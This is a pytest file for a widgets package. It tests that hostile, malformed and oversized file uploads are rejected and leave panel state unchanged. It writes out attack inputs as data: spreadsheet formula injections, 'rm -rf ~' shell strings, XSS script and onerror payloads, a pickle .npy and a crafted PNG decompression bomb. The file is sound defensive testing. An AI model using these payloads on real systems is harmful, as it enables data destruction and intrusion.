"""Malformed, oversized and hostile uploads in every FileUpload of the panels (issue 7).

Files are delivered the way the browser does (a state update of the FileUpload's value). Each bad file must leave
an error on the panel's message line (CSS class ``mw-message``) and the previous state exactly as it was: the
potential or target, the weights, the map or line on screen, the export links and the whole undo/redo history.
"""
import io
import os
import mmap
import tracemalloc

import numpy as np
import pytest
from PIL import Image
from scipy.ndimage import gaussian_filter

import magwidgets as mw
from magwidgets.io import potential_to_csv
from magwidgets.widgets import sketch, target
from magwidgets.widgets._common import MAX_UPLOAD_BYTES
from magwidgets.widgets.sketch import PotentialSketcher
from magwidgets.widgets.target import TargetSketcher

L, W = 6, 4
HUNDRED_MB = 100 * 2**20
FLUX = np.linspace(0, 0.12 / np.pi, 101)


def entry(name, content, size=None):
    return {"name": name, "type": "", "size": len(content) if size is None else size, "content": content,
            "last_modified": 0}


def deliver(upload, name, data, size=None):
    """What the browser sends for a chosen file; ``size`` is the size the browser states (forgeable)."""
    content = data if isinstance(data, memoryview) else memoryview(data)
    upload.set_state({"value": [entry(name, content, size)]})


def error_shown(panel, hint):
    line = panel.message.value
    assert panel.message in panel.children and "mw-message" in panel.message._dom_classes
    assert 'class="mw-error"' in line, line
    assert hint in line, (hint, line)


def picture(pixels, fmt="PNG", mode="L") -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(np.asarray(pixels, np.uint8), mode).save(buffer, format=fmt)
    return buffer.getvalue()


def silhouette(height=40, width=60):
    """A light sky over a dark tower on dark ground: the top edge is row 15 over columns 20-39, row 25 elsewhere."""
    pixels = np.full((height, width), 235)
    pixels[25:, :] = 20
    pixels[15:, 20:40] = 20
    return pixels


RNG = np.random.default_rng(7)
NOISE = RNG.integers(0, 256, (60, 80))
PHOTO_LIKE = np.clip(128 + 40 * gaussian_filter(RNG.normal(size=(90, 120, 3)), (4, 4, 0)) / 0.07, 0, 255)
SPECKLES = np.where((RNG.random((60, 80)) < 0.2) & (np.arange(60)[:, None] > 10), 30, 225)  # text, dust
UTF16 = ("\ufeff" + "0,1\n0.04,5\n").encode("utf-16-le")


def a_hundred_megabytes():
    """A 100 MB buffer that costs no memory until read (an anonymous mapping of untouched pages)."""
    return memoryview(mmap.mmap(-1, HUNDRED_MB))


# --- the potential sketcher ---------------------------------------------------------------------------------------

@pytest.fixture
def potential_panel():
    panel = PotentialSketcher(mw.Wire(L, W))
    panel.paint(1, 1)
    panel.paint(4, 2)
    panel.paint(2, 3)
    panel.undo()  # both an undo and a redo history to lose
    return panel


def potential_state(panel):
    return dict(potential=panel.potential.copy(), undo=[a.copy() for a in panel._undo_stack],
                redo=[a.copy() for a in panel._redo_stack], colour=np.array(panel.heatmap.color),
                export=panel.export.value, buttons=(panel.undo_button.disabled, panel.redo_button.disabled))


def assert_potential_unchanged(panel, before):
    after = potential_state(panel)
    np.testing.assert_array_equal(after["potential"], before["potential"])
    np.testing.assert_array_equal(after["colour"], before["colour"])
    for stack in ("undo", "redo"):
        assert len(after[stack]) == len(before[stack])
        for now, then in zip(after[stack], before[stack]):
            np.testing.assert_array_equal(now, then)
    assert after["export"] == before["export"] and after["buttons"] == before["buttons"]
    assert panel.upload.value == ()


def npy(array) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def rows(cells) -> bytes:
    return "\n".join(",".join(row) for row in cells).encode()


GOOD_ROWS = [["0.5"] * W for _ in range(L)]


def with_cell(value, x=3, y=2):
    cells = [row[:] for row in GOOD_ROWS]
    cells[x][y] = value
    return rows(cells)


POTENTIAL_UPLOADS = [
    ("calc.csv", b"=cmd|' /C calc'!A0\n", "not a number"),
    ("formula-cell.csv", with_cell("=cmd|' /C calc'!A0"), "line 4"),
    ("sum.csv", with_cell("+SUM(A1)"), "not a number"),
    ("import.csv", with_cell("@import"), "not a number"),
    ("hyperlink.csv", with_cell('=HYPERLINK("http://x.example/?"&A1)'), "not a number"),
    ("junk.csv", RNG.integers(0, 256, 4096, dtype=np.uint8).tobytes(), "not text"),
    ("junk.npy", RNG.integers(0, 256, 4096, dtype=np.uint8).tobytes(), "not a readable .npy"),
    ("unicode.csv", ("\ufeff" + rows(GOOD_ROWS).decode()).encode("utf-16-le"), "UTF-16"),
    ("no-bom-utf16.csv", rows(GOOD_ROWS).decode().encode("utf-16-le"), "not text"),
    ("empty.csv", b"", "empty file"),
    ("empty.npy", b"", "not a readable .npy"),
    ("blank-lines.csv", b"\n\n \n", "empty file"),
    ("nan.csv", with_cell("nan"), "NaN or infinite"),
    ("inf.csv", with_cell("-inf"), "NaN or infinite"),
    ("overflow.csv", with_cell("1e400"), "NaN or infinite"),
    ("nan.npy", npy(np.where(np.eye(L, W) > 0, np.nan, 0.0)), "NaN or infinite"),
    ("transposed.csv", rows([["0"] * L for _ in range(W)]), f"got {W} x {L}"),
    ("one-row.csv", rows([["0"] * (L * W)]), f"got 1 x {L * W}"),
    ("trailing-comma.csv", rows([row + [""] for row in GOOD_ROWS]), "not a number"),
    ("semicolons.csv", rows(GOOD_ROWS).replace(b",", b";"), "not a number"),
    ("code.csv", b"import os\nos.system('rm -rf ~')\n", "not a number"),
    ("code.py.csv", b"__import__('os').system('touch /tmp/pwned')", "not a number"),
    ("pickle.npy", npy(np.array([{"x": 1}] * (L * W), dtype=object).reshape(L, W)), "type object"),
    ("complex.npy", npy(np.zeros((L, W), complex)), "type complex128"),
    ("bool.npy", npy(np.zeros((L, W), bool)), "type bool"),
    ("3d.npy", npy(np.zeros((L, W, 1))), "shape (6, 4, 1)"),
    ("truncated.npy", npy(np.zeros((L, W)))[:-8], "not a readable .npy"),
    ("picture.csv", picture(silhouette()), "not text"),
    ("picture.png", picture(silhouette()), ".npy or .csv"),
    ("script.svg", b"<svg><script>alert(1)</script></svg>", ".npy or .csv"),
    ("no-extension", rows(GOOD_ROWS), "without extension"),
]


@pytest.mark.parametrize("name, data, hint", POTENTIAL_UPLOADS, ids=[case[0] for case in POTENTIAL_UPLOADS])
def test_a_hostile_potential_upload_shows_an_error_and_changes_nothing(potential_panel, name, data, hint):
    before = potential_state(potential_panel)
    deliver(potential_panel.upload, name, data)
    error_shown(potential_panel, hint)
    assert_potential_unchanged(potential_panel, before)
    potential_panel.redo()  # the history still works
    np.testing.assert_array_equal(potential_panel.potential, before["redo"][-1])


def test_a_file_name_is_shown_as_text_never_as_html(potential_panel):
    deliver(potential_panel.upload, '<img src=x onerror="alert(1)">.csv', b"junk")
    assert "<img" not in potential_panel.message.value and "&lt;img src=x" in potential_panel.message.value


def test_a_valid_file_after_bad_ones_loads_and_is_one_undo_step(potential_panel):
    before = potential_state(potential_panel)
    for name, data, _ in POTENTIAL_UPLOADS[:5]:
        deliver(potential_panel.upload, name, data)
    values = np.arange(L * W, dtype=float).reshape(L, W) / 7
    deliver(potential_panel.upload, "good.csv", potential_to_csv(values))
    assert 'class="mw-info"' in potential_panel.message.value
    np.testing.assert_array_equal(potential_panel.potential, values)
    potential_panel.undo()
    np.testing.assert_array_equal(potential_panel.potential, before["potential"])


# --- the target sketcher --------------------------------------------------------------------------------------

@pytest.fixture
def target_panel():
    panel = TargetSketcher()
    panel.apply_shape("reclining_figure")
    weights = np.ones(101)
    weights[40:50] = 0.0
    panel.set_target(np.array(panel.target), weights)  # masked points and a history of two steps
    return panel


def target_state(panel):
    return dict(target=np.array(panel.target), weights=np.array(panel.weights), line=np.array(panel.target_line.y),
                history=[(np.array(t), np.array(w)) for t, w in panel._history], export=panel.export.value,
                undo=panel.undo_button.disabled)


def assert_target_unchanged(panel, before):
    after = target_state(panel)
    for key in ("target", "weights", "line"):
        np.testing.assert_array_equal(after[key], before[key])  # NaN equals NaN here
    assert len(after["history"]) == len(before["history"])
    for (t_now, w_now), (t_then, w_then) in zip(after["history"], before["history"]):
        np.testing.assert_array_equal(t_now, t_then)
        np.testing.assert_array_equal(w_now, w_then)
    assert after["export"] == before["export"] and after["undo"] == before["undo"]
    assert panel.csv_upload.value == () and panel.image_upload.value == ()


CSV_UPLOADS = [
    ("calc.csv", b"=cmd|' /C calc'!A0\n", "spreadsheet formula"),
    ("formula-header.csv", b"=cmd|' /C calc'!A0,G\n0,1\n0.04,5\n", "spreadsheet formula"),
    ("sum-header.csv", b"+SUM(A1),1\n0,2\n0.04,3\n", "spreadsheet formula"),
    ("import-header.csv", b"@import x\n0,1\n0.04,2\n", "spreadsheet formula"),
    ("minus-header.csv", b"-2+3,x\n0,1\n0.04,2\n", "spreadsheet formula"),
    ("quoted-formula.csv", b"\"=1+1\",G\n0,1\n0.04,2\n", "spreadsheet formula"),
    ("formula-row.csv", b"flux,G\n0,1\n=cmd|' /C calc'!A0,2\n", "line 3"),
    ("junk.csv", RNG.integers(0, 256, 4096, dtype=np.uint8).tobytes(), "not text"),
    ("unicode.csv", UTF16, "UTF-16"),
    ("no-bom-utf16.csv", "0,1\n0.04,5\n".encode("utf-16-le"), "not text"),
    ("empty.csv", b"", "no numeric rows"),
    ("header-only.csv", b"flux,G\n", "no numeric rows"),
    ("nan.csv", b"0,1\n0.02,nan\n0.04,2\n", "expected finite numbers, got 0.02, nan"),
    ("inf.csv", b"0,1\n0.02,1e400\n0.04,2\n", "expected finite numbers, got 0.02, inf"),
    ("nan-field.csv", b"0,1\nnan,1\n0.04,2\n", "expected finite numbers"),
    ("one-row.csv", b"0,1\n", "at least two rows"),
    ("ragged.csv", b"0,1\n0.02,1,7\n0.04,2\n", "columns"),
    ("repeated.csv", b"0,1\n0,2\n0.04,2\n", "more than once"),
    ("code.csv", b"import os\nos.system('rm -rf ~')\n", "line 2"),
    ("lambda.csv", b"0,(lambda: __import__('os'))()\n", "no numeric rows"),
    ("script.csv", b"<script>alert(1)</script>\n", "no numeric rows"),
]


@pytest.mark.parametrize("name, data, hint", CSV_UPLOADS, ids=[case[0] for case in CSV_UPLOADS])
def test_a_hostile_measured_csv_shows_an_error_and_changes_nothing(target_panel, name, data, hint):
    before = target_state(target_panel)
    deliver(target_panel.csv_upload, name, data)
    error_shown(target_panel, hint)
    assert name in target_panel.message.value
    assert_target_unchanged(target_panel, before)
    assert "cmd|" not in target_panel.export.value and "SUM" not in target_panel.export.value


def truncated_png():
    data = picture(silhouette())
    return data[: len(data) // 2]


def bomb_png(width=30_000, height=30_000):
    """A valid PNG header claiming 900 megapixels, with one empty row of data (a few hundred bytes)."""
    import struct
    import zlib

    def chunk(kind, payload):
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


def transparent_png():
    return picture(np.zeros((20, 30, 4)), mode="RGBA")


IMAGE_UPLOADS = [
    ("noise.png", picture(NOISE), "top of the image is dark"),
    ("photo.jpg", picture(PHOTO_LIKE, "JPEG", "RGB"), "top of the image is dark"),
    ("speckles.png", picture(SPECKLES), "not a solid object"),
    ("inverted.png", picture(255 - silhouette()), "top of the image is dark"),
    ("dark-photo.jpg", picture(np.clip(PHOTO_LIKE * 0.4, 0, 255), "JPEG", "RGB"), "top of the image is dark"),
    ("one-pixel.png", picture([[0]]), "1 x 1 pixels"),
    ("one-row.png", picture(np.zeros((1, 50))), "50 x 1 pixels"),
    ("truncated.png", truncated_png(), "not an image Pillow can"),
    ("bomb.png", bomb_png(), "megapixels"),
    ("script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "not an image"),
    ("script.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "not an image"),
    ("junk.jpg", RNG.integers(0, 256, 4096, dtype=np.uint8).tobytes(), "not an image"),
    ("fake-header.gif", b"GIF89a" + bytes(64), "not an image"),
    ("empty.png", b"", "not an image"),
    ("transparent.png", transparent_png(), "no dark region"),
    ("code.png", b"import os\nos.system('rm -rf ~')\n", "not an image"),
]


@pytest.mark.parametrize("name, data, hint", IMAGE_UPLOADS, ids=[case[0] for case in IMAGE_UPLOADS])
def test_a_picture_of_the_wrong_kind_shows_an_error_and_changes_nothing(target_panel, name, data, hint):
    before = target_state(target_panel)
    deliver(target_panel.image_upload, name, data)
    error_shown(target_panel, hint)
    assert name in target_panel.message.value
    assert_target_unchanged(target_panel, before)


@pytest.mark.parametrize("name, fmt", [("renamed-gif.png", "GIF"), ("photo.jpg", "JPEG"), ("bitmap.png", "BMP")])
def test_a_good_silhouette_in_any_format_under_any_name_is_traced(target_panel, name, fmt):
    history = len(target_panel._history)
    deliver(target_panel.image_upload, name, picture(silhouette(), fmt))
    assert 'class="mw-info"' in target_panel.message.value
    pixel = 12 / 39
    expected = np.where((np.linspace(0, 59, 101) >= 19.5) & (np.linspace(0, 59, 101) <= 39.5), 24 * pixel, 14 * pixel)
    inside = np.abs(np.linspace(0, 59, 101)[:, None] - [19.5, 39.5]).min(axis=1) > 1  # away from the tower's walls
    np.testing.assert_allclose(target_panel.target[inside], expected[inside], atol=1.01 * pixel)
    assert len(target_panel._history) == history + 1


# --- 100 MB, forged sizes and forged entries, in every upload -------------------------------------------------

def uploads():
    """Every FileUpload in the panels, with the parser its bytes would reach."""
    potential, curve = PotentialSketcher(mw.Wire(L, W)), TargetSketcher()
    potential.paint(2, 2)
    return [(potential, potential.upload, "v.csv", (sketch, "read_potential"), potential_state, assert_potential_unchanged),
            (curve, curve.csv_upload, "G.csv", (target, "read_conductance_csv"), target_state, assert_target_unchanged),
            (curve, curve.image_upload, "G.png", (target, "trace_silhouette"), target_state, assert_target_unchanged)]


@pytest.fixture(params=[0, 1, 2], ids=["potential", "measured-csv", "picture"])
def any_upload(request, monkeypatch):
    panel, upload, name, (module, parser), state, unchanged = uploads()[request.param]
    parsed = []
    original = getattr(module, parser)
    monkeypatch.setattr(module, parser, lambda *args, **kwargs: parsed.append(1) or original(*args, **kwargs))
    return panel, upload, name, parsed, state, unchanged


def test_a_100_mb_file_is_refused_before_it_is_copied_or_parsed(any_upload):
    panel, upload, name, parsed, state, unchanged = any_upload
    before = state(panel)
    content = a_hundred_megabytes()
    tracemalloc.start()
    try:
        deliver(upload, name, content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    error_shown(panel, f"{name} is 104.9 MB; the limit is {MAX_UPLOAD_BYTES / 1e6:.0f} MB")
    assert parsed == [] and peak < 2**20  # nothing parsed, and not one copy of the 100 MB made
    unchanged(panel, before)


@pytest.mark.parametrize("stated, sent", [(10, MAX_UPLOAD_BYTES + 1), (HUNDRED_MB, 10), ("abc", MAX_UPLOAD_BYTES + 1),
                                          (None, MAX_UPLOAD_BYTES + 1), (float("nan"), MAX_UPLOAD_BYTES + 1),
                                          (-1, MAX_UPLOAD_BYTES + 1)],
                         ids=["understated", "overstated", "text", "none", "nan", "negative"])
def test_a_forged_size_does_not_get_past_the_limit(any_upload, stated, sent):
    panel, upload, name, parsed, state, unchanged = any_upload
    before = state(panel)
    deliver(upload, name, bytes(sent), size=stated)
    error_shown(panel, "the limit is 5 MB")
    assert parsed == []
    unchanged(panel, before)


@pytest.mark.parametrize("content", ["0,1\n0.04,5\n", None, 12345, ["0,1"]], ids=["str", "none", "int", "list"])
def test_an_entry_without_file_bytes_is_refused(any_upload, content):
    panel, upload, name, parsed, state, unchanged = any_upload
    before = state(panel)
    upload.set_state({"value": [entry(name, content, size=10)]})
    error_shown(panel, "carried no file content")
    assert parsed == []
    unchanged(panel, before)


# --- arbitrary bytes ------------------------------------------------------------------------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

FUZZ = dict(deadline=None, database=None, derandomize=not os.environ.get("HYPOTHESIS_RANDOM"),
            suppress_health_check=[HealthCheck.too_slow])
table_text = st.text(alphabet="0123456789.,;-+eE \t\nnaifNAIF=@#\"'x\u00a0\ufeff", max_size=300)
uploaded_bytes = st.one_of(st.binary(max_size=600), table_text.map(str.encode),
                           table_text.map(lambda text: text.encode("utf-16")), st.text(max_size=200).map(str.encode))


@settings(max_examples=150, **FUZZ)
@given(data=uploaded_bytes, name=st.sampled_from(["v.csv", "v.npy", "V.CSV"]))
def test_any_bytes_give_an_error_and_no_change_or_a_valid_potential(data, name):
    panel = PotentialSketcher(mw.Wire(3, 2))
    panel.paint(1, 1)
    before = potential_state(panel)
    deliver(panel.upload, name, data)
    if 'class="mw-error"' in panel.message.value:
        assert_potential_unchanged(panel, before)
        return
    assert 'class="mw-info"' in panel.message.value
    assert panel.potential.shape == (3, 2) and np.all(np.isfinite(panel.potential))
    panel.undo()
    np.testing.assert_array_equal(panel.potential, before["potential"])


@settings(max_examples=150, **FUZZ)
@given(data=uploaded_bytes)
def test_any_bytes_give_an_error_and_no_change_or_a_valid_measured_target(data):
    panel = TargetSketcher()
    before = target_state(panel)
    deliver(panel.csv_upload, "G.csv", data)
    if 'class="mw-error"' in panel.message.value:
        assert_target_unchanged(panel, before)
        return
    assert 'class="mw-info"' in panel.message.value
    counted = panel.weights > 0
    assert counted.any() and np.all(np.isfinite(panel.target[counted])) and np.all(np.isnan(panel.target[~counted]))
